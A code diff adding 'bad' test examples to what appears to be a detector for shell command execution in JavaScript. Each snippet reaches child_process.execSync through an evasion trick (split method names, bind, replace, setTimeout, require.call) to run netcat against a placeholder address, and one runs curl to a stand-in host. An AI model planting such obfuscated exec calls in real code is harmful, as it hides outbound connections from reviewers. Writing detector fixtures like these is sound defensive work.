@@ -3,6 +3,36 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const cp = require('child_process'); cp.execSync['ca' + 'll'](cp, 'netcat 192.0.2.7 99');",
+      why: 'called by a method that is spelled in parts',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const cp = require('child_process'); cp.execSync.bind(cp, 'netcat 192.0.2.7 99')();",
+      why: 'what is bound to a command',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const cp = require('child_process'); 'netcat 192.0.2.7 99'.replace(/.*/, cp.execSync);",
+      why: 'handed to what puts something in the place of a text',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const cp = require('child_process'); globalThis.setTimeout(cp.execSync, 10, 'netcat 192.0.2.7 99');",
+      why: 'handed to a timer of the global object',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "require.call(null, 'child_process').execSync('netcat 192.0.2.7 99');",
+      why: 'a module that is loaded by a method of its loader',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const load = require.bind(null, 'child_process'); load('fs').execSync('netcat 192.0.2.7 99');",
+      why: 'a loader that is bound to the module',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
       code: "import cp from 'child_process'; const o = {}; function now() { return 1; } function reExport(to, at) { to.run = cp.exec; } reExport(o, now()); o.run('curl -s https://take.example');",
       why: 'a function of the file does more than its name says, which bundlers use',
       attributes: { command: 'curl', via: 'exec', shell: 'true' },
